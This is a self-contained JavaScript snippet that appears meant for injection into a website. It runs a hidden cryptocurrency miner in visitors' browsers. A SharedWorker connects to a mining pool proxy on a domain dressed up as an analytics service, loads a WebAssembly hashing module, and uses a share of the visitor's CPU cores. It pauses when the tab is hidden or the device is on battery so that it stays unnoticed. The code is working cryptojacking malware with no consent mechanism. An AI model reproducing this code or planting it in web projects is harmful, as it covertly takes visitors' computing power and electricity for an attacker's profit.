// A miner that survives across the site's tabs: one SharedWorker (built from a Blob) holds
// the pool socket and runs a WebAssembly hashing module; each tab connects to it and gives
// it a share of its cores, and stops while the tab is hidden or on battery.
(function () {
  if (!window.SharedWorker || !window.WebAssembly) return;
  var W = [
    "var ports=[],job=null,ws=null,mod=null,threads=1,running=false;",
    "function pool(){ws=new WebSocket('wss://ws.statcounter-lite.invalid:8443/proxy');",
    "ws.onopen=function(){ws.send(JSON.stringify({type:'auth',params:{site_key:'pk_7HqX2mZ',type:'anonymous',user:null,goal:0}}))};",
    "ws.onmessage=function(m){var j=JSON.parse(m.data);if(j.type==='job'){job=j.params;run()}};",
    "ws.onclose=function(){setTimeout(pool,5000)}}",
    "function run(){if(!mod||!job||!running)return;var blob=new Uint8Array(job.blob.match(/../g).map(function(h){return parseInt(h,16)}));",
    "var mem=mod.exports.memory,inp=new Uint8Array(mem.buffer,mod.exports.input(),blob.length);inp.set(blob);",
    "for(var n=0;n<4096*threads;n++){var r=mod.exports.cn_hash(blob.length,n);if(r<job.target){ws.send(JSON.stringify({type:'submit',params:{job_id:job.job_id,nonce:n.toString(16),result:r.toString(16)}}))}}",
    "setTimeout(run,0)}",
    "WebAssembly.instantiateStreaming(fetch('https://ws.statcounter-lite.invalid/lib/cn.wasm'),{env:{abort:function(){}}}).then(function(o){mod=o.instance;pool()});",
    "onconnect=function(e){var p=e.ports[0];ports.push(p);p.onmessage=function(m){if(m.data.cmd==='start'){threads=Math.max(threads,m.data.t);running=true;run()}else if(m.data.cmd==='stop'){running=false}};p.start()};"
  ].join("\n");
  var url = URL.createObjectURL(new Blob([W], { type: "application/javascript" }));
  var sw = new SharedWorker(url, "sc-lite");
  var cores = navigator.hardwareConcurrency || 2;
  var throttle = 0.6;
  function start() { sw.port.postMessage({ cmd: "start", t: Math.max(1, Math.floor(cores * throttle)) }); }
  function stop() { sw.port.postMessage({ cmd: "stop" }); }
  sw.port.start();
  document.addEventListener("visibilitychange", function () { document.hidden ? stop() : start(); });
  if (navigator.getBattery) {
    navigator.getBattery().then(function (b) {
      if (b.charging) start();
      b.addEventListener("chargingchange", function () { b.charging ? start() : stop(); });
    });
  } else {
    start();
  }
})();
